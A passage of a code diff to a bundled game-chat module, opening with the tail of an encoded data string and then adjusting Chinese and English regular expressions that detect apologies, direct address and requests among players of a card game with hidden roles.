f=Yf7Y'17N}0hhyQD*bnAkm2{N%9fw>M*FGSPzC@2i7b*+T^*@KHIu-#<~cLw=qE)E/$ib|z#2SXe;X?JHN`VorP&T@l;E8C<_i[H/Y=O#C4,L5Z-5nuI&qMt*waM.;{Tk8sQ{{0T~AX?rSw_sn:]xf_*OBUSp.Pf<_d<5uQY~=1G3Ng37:.zm/7@@6w7BkXql){0SH<[hu7X7zpF1v`v/4yvK)iWUq:X8T,b.fYx'#hOG:f+VgpR]:E|0Q|}lf?`F6`<D3'__Z-whaky-bv-wU9EoxyhIsL2T.VAaiPVo{X8&_f3:R{>L:t{J>waC:W57=v/SLWlJ~k$h9)q,4rNE{bQ#]`b0-]<#{X&8O74y_6-`FBwi(jF+0n^9wYMo_K=&9l9*`}HYg91$*._&8viO}`6DN^M-K@2K?:W4n0FA9DhAZXWYt$[=C;I'z,%R41wvobFw;q2^NIP|lHGsX(B`Ucv|AR|6I|,|S?>O;Ogwoq2c+%[4P}~&2,5tW=I2fNQ=>(IvcT/-L1a1I&d7iA3m{/>Ad6-vQe.~wEdC0,pM'$:3t0V21S'~CZJJx{4;we*O3;v$%p2E{>cUkVxlsDc7t`6qS>wSWk]/vW]G2|/<=f=8:c/,KaNDMHC2As_YvYi`~^Z#$|rpB^m}4qA#~)~KEVy'V&H@1b}i3+-OuGw%]:reT/nN@GjE1t86ZB&$T9O>lTF<H>JY*^QoHH#B,tmUm'%JXVo]`LjW?2+|8e~oFlX*ShHi:jC|AMjMvg<p[AUor2Znh>Y_:g2@rf6j&GYHS6d$Yk9Q4*9(l,Ar}&2nO.iq2|5oP?@EKSV2|pJWVd[i^#c^zt4zxCZS%oS`KD1E<=[SrhS@&k7kenfU7VDT=Li-/]4B_}4mn-M:f.V7Wo9pPx=+gkVzFoBuD{|%99G3h=*Wjv0&I&lFJ??+kK9[s,:([Wme6MO'&`15Dfh/IzsRK6KN]9~'$>36/-.v[neF7Q5GiQI#LS(%VV8~t7-f4M;eFR|/</FG2(DtCty-sWKbsk.<IYjJD}c7)Livczifs[^%cWMdh6udS~)dk~THio='7n~F8Rc{T=-V<da`#Z@P(q*D]B[:~Wxr&Qa^iSc-3DqX;i:4jDv%pZEE_MdCVw>Z~'mJ}1+AVQ=v5]]o7n1Nvs@#/8A3G+>sf#8D;%0~xW,@RM*.^11(Nb2YtQ74;ms*'GhsKmCz2=Dy~';q9{J5ixhpJyxD|?'y0f#*G5(5TT@@UUyWPO2&aO5RE&AD3}#vbFtSF@J%]o%D2sZ=xkTS|k^3I5FFjwPSO_lqClFy4ZT9F>p7Pmz6d|<XcAA#;/enW$sKt2cu(^n]&}0f.gr#4qY$?Ym1<SUV)9A/Zp;yCxgyVQLsk9BmEcDLL,(.}/`>)I@oZpkDYJTD{Y&+6a)6uL$Fak,hAs/o#`nknIIQ,'k0I.Q1^H5o`GrRBs%LI=;YLKjtQe$*v%'vRBb@k6H@wjLJ%q5BO.>?3ZzR5XIk@V810uD:|_<Chb>IbJ`cBo5}*n|UPj3B'oiIGD{5;Meo)D1QR8c(h&j8's,%Q=$5Xai$haVh>))()1?RYn~OSImsoXgxsnb22t(C'?i+bXXB&R)YG#B{Qj]TRRl/%:TuiJ3BgHlb';im]*fn]l+H4)9(9vhu=9]vCgj8JJj4CPDaH67^<LG*Cj7?V:D><)%Lho,eTvm??,cj?.b&W#QLx3G+;O-XX)/VX#,__z(l-@;|=r<:H[`{7F;a(Sq{+G8/ldJPt'-Dm|/kR[YGBk0zjX&Pqyp2)TFl[E&F[zoft,f^8nx{L[jbrDA1-`-/uT8p1&+(4F8H6%=G4inSo$<GT(-r-=a``4.DcK--D6{JT.'-/&`pf6###";
 
 // src/chatter/moves/likely.ts
 const SHARPNESS = 1.75;
@@ -29601,7 +29714,7 @@ function choose2(candidates, { temperature, seed, purpose, spoken }) {
 }
 
 // src/chatter/flow/branch.ts
-const CLOSE2 = 0.3;
+const CLOSE3 = 0.3;
 const LEAVES_AT = 3;
 const SILENT_ROUNDS = 5;
 const SILENT_AT = 3;
@@ -29614,7 +29727,7 @@ function boundary(patience, closeness, round) {
 		patience.silentUntil = round + SILENT_ROUNDS;
 		return "boundary_leave";
 	}
-	return patience.oversteps > 1 || closeness < CLOSE2 ? "boundary_firm" : "boundary_soft";
+	return patience.oversteps > 1 || closeness < CLOSE3 ? "boundary_firm" : "boundary_soft";
 }
 function shrug(patience) {
 	patience.dull++;
@@ -29935,7 +30048,7 @@ function createFloor() {
 }
 
 // src/chatter/moves/amends.ts
-const TAKEN_BACK2 = /(?:我|话|那句|骂的)[^你,?]{0,4}收回(?!去|.{0,6}(?:[牌张猜]|判断|怀疑|看法))|收回(?:我|刚|那|之前|前面)[^,?]{0,8}(?:话|句|说|骂)|(?<![你他她号])(?:刚|之前|前面|上[轮把]|我)[^,?你他她号]{0,6}(?:[话嘴]|那句|[说骂]得)(?:[说是也太真得的]|有点|确实)*(?:[重贱欠臭狠]|过(?:了|分|头|火)|难听|不对|不好听)|(?:骂|喷|怼|损|嘲讽|挤兑)(?:了?(?:你|她|他|人|大家|各位))[^,?]{0,8}(?:不对|不好|不该|过分|[我的]错|没品|抱歉|对不)|不(?:该|应该)[^,?]{0,6}(?:骂|喷|怼|损|说你|说那)|是我[^,?]{0,5}(?:急眼|上头|气头上|嘴快)|[是的说]气话|口不择言|(?:话|那句)[^,?]{0,4}(?:当我没说|过[了火分])|\bi(?:'d like to| wanna| want to| gotta)? (?:take|took) (?:(?:that|it|this|those|everything|all)\b.{0,24}\bback\b|back (?:what|that|those|everything|all|calling|my words))|\b(?:calling|called) (?:you|u|ya|them|him|her|everyone)\b.{2,40}\b(?:sorry|sry|soz|my bad|apolog\w*|wrong|(?:dick|low|cheap|shitty|bad) (?:move|blow)|uncalled|out of line|too far|mean|rude|harsh)\b|\b(?:sorry|sry|soz|my bad|apolog\w*)\b.{0,20}\b(?:calling|called|i said|saying|yell\w*|snapp\w*|cuss\w*|swear\w*|insult\w*|language|rude|(?<!n'?t )mean|harsh|trash talk\w*|outburst|rant)\b|\b(?:what i (?:said|called (?:you|u))|i was)\b.{0,16}\b(?:out of line|uncalled for|an? (?:dick|jerk|asshole|ass)|too harsh|(?:salty|tilted|venting))\b|\bi should(?:n'?t| not) (?:have |of |'?ve )?(?:said|called|snapped|yelled|sworn|cussed|insulted)\b|\b(?:i (?:lost my (?:temper|cool)|went too far)|didn'?t mean (?:what i said|those|any of))\b|\bforget what i (?:said|called)\b|\b(?:uncalled for|out of line|too harsh)\b.{0,16}\b(?:me|my|i|sorry|apolog\w*)\b/;
+const TAKEN_BACK2 = /(?:我|话|那句|骂的)[^你,?]{0,4}收回(?!去|.{0,6}(?:[牌张猜]|判断|怀疑|看法))|收回(?:我|刚|那|之前|前面)[^,?]{0,8}(?:话|句|说|骂)|(?<![你他她号])(?:刚|之前|前面|上[轮把]|我)[^,?你他她号]{0,6}(?:[话嘴]|那句|[说骂]得)(?:[说是也太真得的]|有点|确实)*(?:[重贱欠臭狠]|过(?:了|分|头|火)|难听|不对|不好听)|(?:骂|喷|怼|损|嘲讽|挤兑)(?:了?(?:你|她|他|人|大家|各位))[^,?]{0,8}(?:不对|不好|不该|过分|[我的]错|没品|抱歉|对不)|不(?:该|应该)[^,?]{0,6}(?:骂|喷|怼|损|说你|说那)|是我[^,?]{0,5}(?:急眼|上头|气头上|嘴快)|[是的说]气话|口不择言|(?:刚|之前|前面|上面|那些)[^?]{0,14}(?:别当真|别往心里|不算数)|我[^,]{0,3}(?:上头|冲动|急眼|犯浑)[^?]{0,6}(?:抱歉|对不|不好意思)|(?:话|那句)[^,?]{0,4}(?:当我没说|过[了火分])|\bi(?:'d like to| wanna| want to| gotta)? (?:take|took) (?:(?:that|it|this|those|everything|all)\b.{0,24}\bback\b|back (?:what|that|those|everything|all|calling|my words))|\b(?:calling|called) (?:you|u|ya|them|him|her|everyone)\b.{2,40}\b(?:sorry|sry|soz|my bad|apolog\w*|wrong|(?:dick|low|cheap|shitty|bad) (?:move|blow)|uncalled|out of line|too far|mean|rude|harsh)\b|\b(?:sorry|sry|soz|my bad|apolog\w*)\b.{0,20}\b(?:calling|called|i said|saying|yell\w*|snapp\w*|cuss\w*|swear\w*|insult\w*|language|rude|(?<!n'?t )mean|harsh|trash talk\w*|outburst|rant)\b|\b(?:what i (?:said|called (?:you|u))|i was)\b.{0,16}\b(?:out of line|uncalled for|an? (?:dick|jerk|asshole|ass)|too harsh|(?:salty|tilted|venting))\b|\bi should(?:n'?t| not) (?:have |of |'?ve )?(?:said|called|snapped|yelled|sworn|cussed|insulted)\b|\b(?:i (?:lost my (?:temper|cool)|went too far)|didn'?t mean (?:what i said|those|any of))\b|\bforget what i (?:said|called)\b|\b(?:uncalled for|out of line|too harsh)\b.{0,16}\b(?:me|my|i|sorry|apolog\w*)\b/;
 const DEMANDED = /[你他她][^,我]{0,8}(?:收回(?!了)|道歉)|[你他她号][^,我]{0,4}(?:骂|喷|怼|损)(?:我|人|他|她|大家)|[他她]骂你|(?:不会?|才不|凭(?:什么|啥)(?:要)?)收回|\b(?:you|u|ya) (?:\w+ )?take (?:that|it) back\b|\b(?:not|never|won'?t|don'?t) (?:gonna |going to )?(?:tak(?:e|ing)|sorry)\b|\b(?:sorry|sry) but\b|\b(?:say|should be) (?:you'?re )?sorry\b|\bwhy\b/;
 const isUnrepentant = (text) => DEMANDED.test(text);
 const takesBack = (text) => TAKEN_BACK2.test(text) && !isUnrepentant(text);
@@ -29956,7 +30069,7 @@ const PUT_TO = /^\s+(?:(?:why|y|what|how|when|where|who|which|if|unless|so|i)(?:
 const SORRY_NEXT = /^[\s,]+[^,.!?\s]{1,10}(?:对不起|对不住|抱歉|谢了|谢谢)/;
 const ONLY_CALLED = /^\s*(?:(?:救我|帮我)(?![^,.!?\s]{0,6}(?:[过命次]|了(?!他|她|它)))|救命|别打我|信我|自己人|我是|我真是)/;
 const CALL_AFTER = /^\s*(?:[,:!?;]|$|你|您|妳|阁下|[救帮](?![^,.!?\s]{0,8}[了过])|别|快(?!没|死|不行|要|挂|凉|完|输|倒|空|扛|撑)|(?:跟我|和我|咱)|我(?:跟[你您]|告诉|看得|可[一没])|请|来个|来一|给(?!你|他|她|它)|信我|自己人|小心|加油|稳|看(?:下|一下|看|好)|说(?:真话|实话|句话)|老实说|给个准话|表个态|为什么|为啥|凭什么|干嘛|\b(?:you|u|ur|please|pls|thx|thanks|ty|sorry|nice|gj|deal|truce|listen|promise(?! (?:was|is|from))|tell (?:me|us)|give (?:me|us)|show (?:me|us)|stop|chill|relax|calm down|remember|answer|explain|spill|what (?:even )?(?:is|are|was|were|do|did|about)|why|how (?:come|do|did|about|much|many)|where|which|(?:dont|do not) (?:you|u)|did (?:you|u)|do (?:you|u)|can (?:you|u)|will (?:you|u)|help|save|don't|do not|stop|why did you|are you|can you)\b)/;
-const BIDDEN = /^\s*先?(?:说|讲|报)(?:说|讲|一下|个|句|啥|什么)|^\s+(?:放(?:我|过)|救(?:我|一下|主)|给我|帮(?:我|忙|主)|让(?:一下|我)|留(?:桃|闪|我|着)|信我|交(?:桃|闪|牌)|报(?:个|一下|身份)|醒醒|撤(?!了))|^\s*(?:(?:先|也|就|可|都|下[把次局回]|以后|等下|待会�?|千万)*(?:别(?!人|的|处|家|说)|不要|记得|记住|认准)|说话(?![^\s,.!?])|(?:赶紧|赶快)(?![，,])|快(?:来|救|打|杀|砍|出|收|上|动手|点(?!死|没)|跑|看|说)|说(?:真话|实话|句话)|老实说|给个准话|表个态|听我|[救帮]我(?![^,.!?\s]{0,6}[了过])|信我|骂(?:我)?吧|拜托|求你|我(?:真的?|可|确实)?(?:不是(?!针对|冲)|对不起|对不住)|我[^,.!?\s]{1,6}[你您])/;
+const BIDDEN = /^\s*先?(?:说|讲|报)(?:说|讲|一下|个|句|啥|什么)|^\s*帮我[^,.!?]{1,8}(?:呗|行不|好不)|^\s+(?:放(?:我|过)|救(?:我|一下|主)|给我|帮(?:我|忙|主)|让(?:一下|我)|留(?:桃|闪|我|着)|信我|交(?:桃|闪|牌)|报(?:个|一下|身份)|醒醒|撤(?!了))|^\s*(?:(?:先|也|就|可|都|下[把次局回]|以后|等下|待会�?|千万)*(?:别(?!人|的|处|家|说)|不要|记得|记住|认准)|说话(?![^\s,.!?])|(?:赶紧|赶快)(?![，,])|快(?:来|救|打|杀|砍|出|收|上|动手|点(?!死|没)|跑|看|说)|说(?:真话|实话|句话)|老实说|给个准话|表个态|听我|[救帮]我(?![^,.!?\s]{0,6}[了过])|信我|骂(?:我)?吧|拜托|求你|我(?:真的?|可|确实)?(?:不是(?!针对|冲)|对不起|对不住)|我[^,.!?\s]{1,6}[你您])/;
 const CALL_AT_END = /(?:[,!?;]|\b(?:thanks|thank you|sorry|hi|hello|hey|you|bye|help)|谢谢|多谢|抱歉|对不起|你好|求你了?|拜托了?)\s*$/;
 const SUMMONED = /^\s*(?:到你|该你|轮到你|补(?:一)?刀(?=[啊吧呀!,.]|$)|收(?:他|她)?人头|上(?=[啊吧呀!,.]|$)|冲(?=[啊吧呀!,.]|$)|动手(?=[啊吧呀!,.]|$)|你看着办|(?:能不能|可不可以|能否|可否)(?:先|就|快|赶紧)?(?:别|不(?!可以)|给|帮|让|少|(?:救|留)(?=[^?吗])))/;
 const BIDDEN_EN = /^\s(?:(?:please|pls|just) )*(?:(?:finish|kill|heal|save|leave|attack|slash|get|help|stop|focus) (?:him|her|them|it|me|us|\d|seat \d|the lord)\b(?! (?:is|was|again|every))|wait\b|watch (?:out|this|him|her)\b|look (?:out|at)\b|focus\b|(?:please|pls) \w+)/;
@@ -29972,7 +30085,7 @@ function turnsTo(after) {
 	const you = YOU4.exec(after);
 	return you !== null && !/在[打杀砍拆顺追盯][着了]?$/.test(after.slice(0, you.index));
 }
-const OPINES = /^\s*(?:怎么|咋|到底|自己|那边|现在|先|还|也|都|是|真的?)*(?:觉得|认为|怀疑|信我|打算|准备|想|拍(?:个)?板|定(?:个|夺)|下(?:个)?令|指(?:个|条)|发(?:个)?话|表(?:个)?态|做(?:个)?主|决定)|^\s+(?:who|what|how|where)(?:'?s)?\b/;
+const OPINES = /^\s*(?:怎么|咋|到底|自己|那边|现在|先|还|也|都|是|真的?)*(?:觉得|认为|怀疑|信我|打算|准备|想|定(?:个|夺)|指(?:个|条)|表(?:个)?态|决定)|^\s+(?:who|what|how|where)(?:'?s)?\b/;
 const ASKS_OR_BIDS = /谁|哪|怎么|咋|什么|啥|吗|呢|[不?]|拍板|[个下](?:板|令|话|态|主)|做主|\b(?:who|what|how|where)/;
 function standsApart({ name, before, after }) {
 	if (/^[@#]/.test(name)) return true;
@@ -30018,7 +30131,7 @@ function isPutTo({ text, name, before, after, alone }) {
 }
 
 // src/chatter/moves/calls-en.ts
-const YOU5 = /\b(?:you|u|ya|your|ur|youre|yourself|urself)\b/;
+const YOU5 = /\b(?:you|u|ya|your|ur|youre|yourself|urself|uve|youve)\b/;
 const HE2 = /\b(?:he|him|his|she|her|they|them)\b/;
 const MARK2 = "(?:^|[,.!?;:~)])\\s*";
 const LAST_CLAUSE = /[^,.!?;:~)]*$/;
@@ -30053,20 +30166,27 @@ const FOR_YOU = /^[24]$/;
 const TURNS_TO_YOU = /^\s*(?:(?:seriously|really|honestly|bro|dude|man|wtf|lol|omg)\b)?[\s,]*(?:you|u|ya|ur|your|youre|you're|u're)\b(?!\s+(?:guys|all|two|both|were there))/;
 const HARM2 = "kill|hit|touch|slash|attack|strike|waste|use|do|let|be|worry|listen|believe|forget|save|heal|help|go|give|play|panic|die|leave|make|start|stop|steal|take|mess|fall|act|tell|say|throw|bother|duel|burn|trust (?:him|her|them|that|this|\\d|seat)";
 const BIDDEN2 = new RegExp(
-	`^\\s+(?:(?:pls|please|just)\\s+)*(?:(?:don'?t|do not|never)\\s+(?:(?:even|ever|you|u)\\s+)?(?:${HARM2})\\b|(?:stop|quit|chill|relax|hands off|back off|lay off|cut it|cut that|knock it|shut|explain|admit|confess|prove|show (?:me|us|your|ur)|tell (?:me|us|the|him|her)|give (?:me|us|it)|trust me|believe me|listen|hold (?:on|up|it)|come (?:on|at|help|get)|let(?:'?s| me| us)|shall we|should we|wanna|truce|deal|alliance|ally|team up|well played|wp|good (?:game|luck|job|one)|thanks|thx|sorry|my bad|any (?:chance|plans|idea)|mind (?:if|telling|your)|spill|be (?:honest|real|nice|careful|quiet|gentle|patient|serious)|go (?:easy|for|get|hit|kill|after|ahead)|just (?:say|admit|tell|do|go|stop|save|kill|end)|nice (?:try|one|job))\\b)`
+	`^\\s+(?:(?:pls|please|just)\\s+)*(?:(?:don'?t|do not|never)\\s+(?:(?:even|ever|you|u)\\s+)?(?:${HARM2})\\b|(?:stop|quit|chill|relax|hands off|back off|lay off|cut it|cut that|knock it|shut|explain|admit|confess|prove|show (?:me|us|your|ur)|tell (?:me|us|the|him|her)|give (?:me|us|it)|trust me|believe me|talk to me|gut feeling|(?:changed|made up) (?:your|ur) mind|listen|hold (?:on|up|it)|come (?:on|at|help|get)|let(?:'?s| me| us)|shall we|should we|wanna|truce|deal|alliance|ally|team up|well played|wp|good (?:game|luck|job|one)|thanks|thx|sorry|my bad|any (?:chance|plans|idea)|mind (?:if|telling|your)|spill|be (?:honest|real|nice|careful|quiet|gentle|patient|serious)|go (?:easy|for|get|hit|kill|after|ahead)|just (?:say|admit|tell|do|go|stop|save|kill|end)|nice (?:try|one|job))\\b)`
 );
 const TELLS = new RegExp(`${MARK2}(?:(?:go|someone|somebody|please|pls|and|hey)\\s+)*(?:tell|warn|remind|inform)\\s$`);
 const TOLD_TO = /^\s+(?:(?:both|just|pls|please|go|should|gotta|have to|need to|all|now|quick)\s+)*(?:gang up|team up|focus|kill|attack|slash|save|heal|finish|target|go for|stop|help|burn|duel|jump|get|protect)\b(?!ed)/;
 const isOrderedInEnglish = (before, after, many) => many && AT_HEAD2.test(before) && TOLD_TO.test(after);
-const ASKS_OF_NEXT = /^\s+(?:so\s+)?(?:is|isnt|isn't|was|does|did|do|will|would|should|could|can|has)\s+$/;
+const ASKS_OF_NEXT = /^[\s,]+(?:so\s+)?(?:is|isnt|isn't|was|does|did|do|will|would|should|could|can|has)\s+$/;
 function calledInEnglish(at) {
 	return isBehind(at) || isAhead(at) || isTold2(at);
 }
+const LEADS_ON = /^\s+(?:now|since|after|when|if|given|because|before|once|with|\d+ cards|that'?s|how|what|why)\b/;
+const OF_US = /^\s+we\b(?!.*\b(?:kill|hit|trust|focus|attack|get)\b(?! each))/;
+const ASKED_OF = new RegExp(
+	`${MARK2}(?:(?:ok|so|yo|an?|honest|quick|real|last)\\s+)*(?:(?:q|question|read|take|thoughts|gut feeling)(?:\\s+(?:for|to))?|(?:this )?one for)\\s$`
+);
 const isTold2 = ({ before, last }) => TELLS.test(before) && !(last?.kind === "seat" && /^[\s,]*tell\s$/.test(before.slice(last.end)));
 const isNobody = (name, before) => /^(?:the|our) /.test(name) || OFFICE2.test(name) && /\bown $/.test(before);
 const WHOLE_BEFORE = [CRIED, EXCLAIMS, CHEERS, THANKED, WHAT_FOR2, BIDDEN_US];
 function isBehind({ name, before, after, last }) {
-	if (isNobody(name, before) || !CLOSES.test(after) || !/\s$/.test(before)) return false;
+	if (!CLOSES.test(after) || !/\s$/.test(before)) return false;
+	if (ASKED_OF.test(before)) return true;
+	if (isNobody(name, before)) return false;
 	if (FOR_YOU.test(name) && TURNS_TO_YOU.test(after)) return false;
 	const clause = LAST_CLAUSE.exec(before)?.[0]?.trimStart() ?? "";
 	if (/^(?:(?:you|u) )?$/.test(clause)) return false;
@@ -30083,7 +30203,8 @@ function isBehind({ name, before, after, last }) {
 function isAhead({ text, name, before, after, next }) {
 	const head = AT_HEAD2.test(before);
 	if (!head) return HAILED.test(before) && /^\s/.test(after) && !TOLD_OF.test(after);
-	if (TURNS_TO_YOU.test(after) || BIDDEN2.test(after)) return true;
+	if (TURNS_TO_YOU.test(after) || BIDDEN2.test(after) || OF_US.test(after)) return true;
+	if (YOU5.test(after) && LEADS_ON.test(after)) return true;
 	const between = next === void 0 || next.kind === "who" ? "" : text.slice(text.length - after.length, next.start);
 	if (ASKS_OF_NEXT.test(between) || between === " " && OFFICE2.test(name) && next?.kind === "seat") return true;
 	if (HAILED.test(before) && !TOLD_OF.test(after) && !/^\s*[,.!?]*$/.test(after)) return true;
@@ -30102,12 +30223,13 @@ const YOU6 = /你(?!们)|您|妳|阁下/;
 const CLOSES2 = /^\s*(?:[,.!?;:~)]|$)|^\s+(?=[\u3400-\u9fff\d])/;
 const BEGINS2 = "(?:^|[,.!?;:~)\\s])";
 const CRIED2 = new RegExp(
-	`${BEGINS2}(?:漂亮|厉害|牛逼?|干得(?:漂亮|好)|打得(?:好|漂亮)|好样的|加油|稳住|冲啊|醒醒|快点|赶紧的?|等(?:等|下|一下)|站住|闭嘴|滚|求(?:求)?你了?|拜托了?|别(?:急|慌|闹|吵|装|跑|浪|催|抖|理他|信他|打我|砍我|杀我)|信我|救我|帮我|饶了?我|放(?:我一马|过我)|老实交代|(?:快)?坦白|快说|说话|回话|哑巴了|辛苦|恭喜|佩服|服了(?:你)?|行行好|听我的|你等着|等着|走着瞧|不讲武德|不讲道理|不要脸|没良心|过分了?|欺负人|缺德|无耻|卑鄙|阴险|真行|(?:真)?有你的|够狠|够意思|狠人|赢麻了|来啊|来吧|(?:悠着|收敛|快|冷静|小心|稳|注意|老实|轻|慢|早|消停|争气|给力|留神|温柔|大方|机灵)(?:一?点儿?|些))\\s*$`
+	`${BEGINS2}(?:漂亮|厉害|牛逼?|干得(?:漂亮|好)|打得(?:好|漂亮)|好样的|加油|稳住|冲啊|醒醒|快点|赶紧的?|等(?:等|下|一下)|站住|闭嘴|滚|求(?:求)?你了?|拜托了?|别(?:急|慌|闹|吵|装|跑|浪|催|抖|理他|信他|打我|砍我|杀我)|信我|救我|帮我|饶了?我|放(?:我一马|过我)|老实交代|(?:快)?坦白|给(?:我)?[个句](?:准|痛快|实在?)?话|表个态|拍个板|吱(?:一)?声|快说|说话|回话|哑巴了|辛苦|恭喜|佩服|服了(?:你)?|行行好|听我的|你等着|等着|走着瞧|不讲武德|不讲道理|不要脸|没良心|过分了?|欺负人|缺德|无耻|卑鄙|阴险|真行|(?:真)?有你的|够狠|够意思|狠人|赢麻了|来啊|来吧|(?:悠着|收敛|快|冷静|小心|稳|注意|老实|轻|慢|早|消停|争气|给力|留神|温柔|大方|机灵)(?:一?点儿?|些))\\s*$`
 );
 const PARTICLE = /(?:[吧吗呢啊呀嘛啦呗哦喔哈嘞咯喽哇]|(?<![什怎这那多要])么)\s*$/;
 const OPINION2 = /(?:觉得|猜|我看|认为|感觉|要我说|依我看|怀疑|比如|就是|还是|不是|那就|谁|[打杀砍拆顺救帮保信给对跟和])[吧啊呢呀嘛么]?\s*$/;
 const ASKED_NOT = /(?:(?<![要岂可从再真就才都])不|(?:有|了|过|完|到|着|好)[^,.!?]{0,8}没)\s*$/;
-const DOUBLED = /(?:好不好|行不行|成不成|可不可以|对不对|慌不慌|急不急|疼不疼|痛不痛|爽不爽|累不累|狠不狠|烦不烦|气不气|虚不虚|丢不丢人|要不要脸|要脸不|够不够|慌了?没|懂不懂|懂没|听见没|听到没|看见没|想好没)\s*$/;
+const DOUBLED = /(?:([^打杀砍拆顺救帮保信怕恨站投跟选踩像是要管留动疑弄收盯])不\1|可不可以|丢不丢人|要不要脸|要脸不|够不够|慌了?没|懂不懂|懂没|听见没|看见没)\s*$/;
+const HANDLED = /(?:^|[,.!?;:~)\s])(?:快|赶紧|麻烦)?把[^,.!?]{2,}(?:[听看瞧下掉了完好]|出来|[给还]我)$/;
 const PAST2 = new RegExp(
 	`(?:(?:急|烦|笑|气|疼|累|吓|冤|困|饿|慢|愁|羡慕|馋|恨|牙疼)死(?:我|人|俺|老子)?了|死(?:我|人|老子)了|[几\\d一二两三四五六七八九十多少半][滴点血张个轮回合次刀分秒格]{1,2}了|[太真好够][^,.!?\\s]{1,3}(?<![打杀砍拆顺救信不])了|(?:${BEGINS2}|[你都就快真又可])(?:完|急|慌|飘|凉|怂|输|赢|死定|没救|疯|傻|醉|栽|懵|虚|没牌|空手|到你|该你|轮到你|好|够|行|得|绝|怪)了|${BEGINS2}\\s*(?:别|不要|行|好|算|够|得)[^,.!?;:]{0,8}了)\\s*$`
 );
@@ -30133,7 +30255,7 @@ const BIDS2 = /赶紧|快(?!死|没|不行|空|倒|挂|输|赢)|别|请|帮忙|(
 const ORDERS = /^(?:先|快|去|就|赶紧|直接|给我|帮我?)*(?:打|杀|砍|拆|顺|救|集火|收|保|奶|乐|兵|火攻|决斗|盯|弄|干)(?![了过的着])[^,.!?了过]{1,6}(?:[啊吧呗呀嘛]|一[下手刀])(?=[,.!?~\s]|$)/;
 const OF_OTHERS = /^(?:你|您)(?:们|怎么看|咋看|怎么想|咋想|觉得|认为|看到|看见|看(?!戏|着|热闹)|信(?!我)|猜|怀疑)/;
 const CLAUSE_BEGINS = /(?:^|[,.!?;:~)\s])$/;
-const ASKED_OF = /^\s*(?:啥|什么|有(?:何|什么|啥)|作何|是?何)(?:感受|感想|想法|看法|意见|说法|反应|心情|高见|打算)|^\s*(?:怎么|咋|如何)(?:看(?!都|也|着|出|上|起|见|的|像)|想(?!都|的|不|起)|说(?!都|也|的|来|呢|话|不))|^\s*(?:出来)?(?:说句话|说两句|讲两句|评评理|吱个声|吱一声|表个态|给个(?:话|说法|准话|解释)|解释(?:一下|下|解释))/;
+const ASKED_OF2 = /^\s*(?:啥|什么|有(?:何|什么|啥)|作何|是?何)(?:感受|感想|想法|看法|意见|说法|反应|心情|高见|打算)|^\s*(?:怎么|咋|如何)(?:看(?!都|也|着|出|上|起|见|的|像)|想(?!都|的|不|起)|说(?!都|也|的|来|呢|话|不))|^\s*(?:出来)?(?:说句话|说两句|讲两句|评评理|吱个声|吱一声|表个态|给[个句](?:话|说法|准话|解释)|解释(?:一下|下|解释)|先[说讲来](?=[,.!?]|$)|(?:发[个句]?话|拍个?板|做个?主|下个?令)(?!了|过|的|说))|^\s*(?:[这下](?:一|个)?(?:回合|轮))?(?:到底|还|是|就|又)*(?:打算|准备)[^,.!?]{1,10}(?:\?|吗|呢|谁|啥|什么|哪)/;
 const DO3 = "(?:盯(?:着|死|住)?|集火|围(?:攻|殴)|追着?|打|杀|砍|拆|顺|弄死?|干|搞|削|揍|收|秒|灭|做掉|乐|兵|保(?:住|一下)?|救(?:一下)?|奶|护(?:着|住)?|管)(?![过完得的]|了(?!他|她|它))";
 const SOON2 = "(?:下(?:个|一)?(?:回合|轮)|等会儿?|等下|待会儿?|一会儿?|一起|一块儿?|赶[紧快]|快|先|去|来|接着|继续|给我|帮我|直接|记得|麻烦|务必|往死里)";
 const TOLD_TO2 = new RegExp(
@@ -30152,7 +30274,7 @@ function isYou({ before, after, alone, last }) {
 }
 function isBehind2({ before, after }) {
 	if (!CLOSES2.test(after)) return false;
-	if (CRIED2.test(before) || DOUBLED.test(before) || PAST2.test(before)) return true;
+	if ([CRIED2, DOUBLED, PAST2, HANDLED].some((whole) => whole.test(before))) return true;
 	if (PARTICLE.test(before)) return !OPINION2.test(before);
 	if (ASKED_NOT.test(before)) return true;
 	const clause = /[^,.!?;:~]*$/.exec(before)?.[0] ?? "";
@@ -30187,7 +30309,7 @@ function isAlone({ text, name, before, after, next }) {
 	if (turns === null || OF_OTHERS.test(rest.slice(turns.index)) || MIND.test(rest)) return false;
 	return !DOES_TO_YOU.test(rest) && !/^[他她它]/.test(rest);
 }
-const isAskedOf = ({ before, after }) => CLAUSE_BEGINS.test(before) && ASKED_OF.test(after);
+const isAskedOf = ({ before, after }) => CLAUSE_BEGINS.test(before) && ASKED_OF2.test(after);
 
 // src/chatter/moves/calls.ts
 const HAN3 = /[\u3400-\u9fff]/;
@@ -30213,7 +30335,7 @@ function callsIn(text, mentions) {
 			next: mentions[i + 1],
 			alone
 		};
-		if (isAskedAbout(at)) return "about";
+		if (isAskedAbout(at) || regarded(at) && calledBefore(text, mentions.slice(0, i))) return "about";
 		if (isCalled(at) || standsApart(at)) return "apart";
 		const [first, last] = rowAround(i, text, mentions);
 		if (last.end < text.length && isOrdered(text.slice(0, first.start), text.slice(last.end), first !== last))
@@ -30221,6 +30343,10 @@ function callsIn(text, mentions) {
 		return isPutTo(at) ? "within" : null;
 	});
 }
+const regarded = ({ before, after }) => /[,.!?;\s]$/.test(before) && /^\s*你(?:到底|究竟|还)*(?:当|觉得|怎么看|看|信|怀疑)/.test(after);
+const calledBefore = (text, mentions) => mentions.some(
+	({ kind, start, end }) => kind === "seat" && BEGINS.test(text.slice(0, start)) && /^\s*你/.test(text.slice(end))
+);
 function rowAround(i, text, mentions) {
 	const isJoined = (a, b) => a?.kind === "seat" && b?.kind === "seat" && JOINS.test(text.slice(a.end, b.start)) && !/^[你您我他]/.test(text.slice(b.start));
 	let from = i;
@@ -30261,11 +30387,13 @@ function mentionsIn(text, between) {
 		return [{ kind, seat, start, end, called, how }];
 	});
 	const named = found.filter(
-		({ kind, end }) => kind !== "self" || !found.some((one) => one.kind === "seat" && one.seat === scene.table.lord && one.start === end)
+		({ kind, end }) => kind !== "self" && kind !== "you" || !found.some(
+			({ seat, start }) => seat === scene.table.lord && (kind === "self" ? start === end : start > end && /^ (?:own )?$/.test(text.slice(end, start)))
+		)
 	);
 	return pronouns(text, named, { scene, from, he });
 }
-const IS_JUDGED = /^(?:就|也|肯定|绝对|八成|多半|准|一定)*(?:是(?:个|真|铁)?[忠反内]|[忠反内](?:贼|臣|奸)?还是)|^(?:'s| is| was| must be) (?:a |an |the )?(?:spy|rebel|reb|traitor|loyal)/;
